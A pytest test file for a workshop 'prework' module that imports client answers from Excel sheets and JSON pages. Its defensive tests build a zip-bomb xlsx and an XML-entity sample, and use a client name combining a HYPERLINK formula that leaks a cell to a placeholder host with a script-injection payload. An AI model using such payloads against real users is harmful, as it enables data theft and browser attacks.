"""What was asked before the meeting comes back as claimed; what does not fit is listed, and nothing is lost."""

from __future__ import annotations

import io
import json
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from readiness.errors import ImportFileError
from readiness.workshop import Room
from readiness.workshop.prework import HEADS, asked, html_page, take_in, write_prework
from readiness.workshop.room import Wish


@pytest.fixture
def written(room: Room, tmp_path: Path) -> Path:
    write_prework(room, tmp_path / "out")
    return tmp_path / "out"


def filled(file: Path, cells: dict[tuple[str, str], Any]) -> Path:
    book = openpyxl.load_workbook(file)
    column = {"low": 1, "likely": 2, "high": 3}
    for row in book.active.iter_rows(min_row=5):
        for (address, part), value in cells.items():
            if row[6].value == address:
                row[column[part]].value = value
    out = file.with_name("filled.xlsx")
    book.save(out)
    return out


def test_the_sheet_asks_every_field_and_an_untouched_one_changes_nothing(room: Room, written: Path) -> None:
    book = openpyxl.load_workbook(written / "prework.xlsx")
    assert [row[6].value for row in book.active.iter_rows(min_row=5)] == [f.address for f in asked()]
    before = room.raw
    taken = take_in(room, written / "prework.xlsx")
    assert (taken.taken, taken.unfit) == ((), ())
    assert room.raw == before


def test_what_is_filled_in_is_taken_as_claimed_with_who_said_it(room: Room, written: Path) -> None:
    contract = "money.contract_value_at_stake_per_year"
    file = filled(
        written / "prework.xlsx",
        {("demand.peak_per_second", "likely"): 999, (contract, "low"): 1000, (contract, "likely"): 2000, (contract, "high"): 9000},
    )
    taken = take_in(room, file, who="CFO")
    assert taken.saved.state == "saved"
    assert room.engagement.demand.peak_per_second == 999
    held = room.engagement.money.contract_value_at_stake_per_year
    assert held is not None
    assert (held.low, held.likely, held.high, held.rung, held.source) == (1000, 2000, 9000, "claimed", "said by CFO")
    assert room.journal.read().lines[-1].who == "CFO"
    before = room.engagement
    room.undo()
    assert room.engagement != before


def test_what_does_not_fit_is_listed_and_the_rest_is_taken(room: Room, written: Path) -> None:
    file = filled(written / "prework.xlsx", {("demand.peak_per_second", "likely"): 999, ("money.customers", "likely"): "many", ("journeys.0.promise.rto_hours", "likely"): -1,
                                             ("money.contract_value_at_stake_per_year", "low"): 9e9})  # fmt: skip
    taken = take_in(room, file)
    assert len(taken.taken) == 1
    assert len(taken.unfit) == 3
    assert any("many" in words for words in taken.unfit)
    assert room.engagement.demand.peak_per_second == 999


def test_numbers_typed_as_texts_are_numbers(room: Room, written: Path) -> None:
    take_in(room, filled(written / "prework.xlsx", {("money.cloud_budget_per_month", "likely"): "12,500.50"}))
    assert room.engagement.money.cloud_budget_per_month == 12500.5


def test_the_page_comes_back_as_a_small_file(room: Room, tmp_path: Path) -> None:
    file = tmp_path / "prework.json"
    answers = {"demand.peak_per_second": 321, "money.revenue_per_hour": {"low": 50, "likely": 100, "high": 300}, "money.secret": 1}
    file.write_text(json.dumps({"format": 1, "client": room.engagement.client.id, "who": "Ops", "answers": answers}))
    taken = take_in(room, file)
    assert room.engagement.demand.peak_per_second == 321
    assert len(taken.unfit) == 1


@pytest.mark.parametrize(
    "content",
    [
        "[]",
        "{",
        '{"format": 1, "client": "somebody-else", "answers": {}}',
        '{"format": 2}',
        '{"format": 1, "client": "northlight", "answers": {"a": NaN}}',
    ],
    ids=str,
)
def test_a_page_that_is_not_this_clients_is_refused(room: Room, tmp_path: Path, content: str) -> None:
    (tmp_path / "x.json").write_text(content)
    with pytest.raises(ImportFileError):
        take_in(room, tmp_path / "x.json")


def bomb(tmp_path: Path) -> Path:
    file = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("xl/worksheets/sheet1.xml", b"<a>" + b" " * 300_000_000 + b"</a>")
    return file


def far_cell(tmp_path: Path) -> Path:
    book = openpyxl.Workbook()
    book.active["A1048576"] = "x"
    book.save(tmp_path / "far.xlsx")
    return tmp_path / "far.xlsx"


def entities(tmp_path: Path) -> Path:
    file = tmp_path / "entities.xlsx"
    with zipfile.ZipFile(file, "w") as packed:
        packed.writestr("xl/worksheets/sheet1.xml", '<!DOCTYPE a [<!ENTITY b "x">]><a>&b;</a>')
    return file


def text_file(tmp_path: Path) -> Path:
    (tmp_path / "text.xlsx").write_text("a,b\n")
    return tmp_path / "text.xlsx"


def another_sheet(tmp_path: Path) -> Path:
    book = openpyxl.Workbook()
    book.active.append(["anything"])
    book.save(tmp_path / "other.xlsx")
    return tmp_path / "other.xlsx"


@pytest.mark.parametrize("make", [bomb, far_cell, entities, text_file, another_sheet, lambda p: p / "absent.xlsx"])
def test_a_file_that_is_none_of_ours_is_a_sentence(room: Room, tmp_path: Path, make: Any) -> None:
    with pytest.raises(ImportFileError):
        take_in(room, make(tmp_path))


def test_client_text_in_the_sheet_is_text_and_in_the_page_is_escaped(room: Room) -> None:
    from readiness.workshop.prework import sheet

    hostile = '=HYPERLINK("http://x/?"&A1)</title><script>alert(1)</script>'
    room.put([Wish("client.name", hostile)])
    book = openpyxl.load_workbook(io.BytesIO(sheet(room)))
    cell = book.active["A1"]
    assert cell.data_type == "s"
    assert hostile in cell.value
    page = html_page(room)
    assert page.count("<script") == 2
    assert "alert(1)</script>" not in page


def test_the_heads_are_those_that_are_looked_for() -> None:
    assert HEADS[6].startswith("Address")
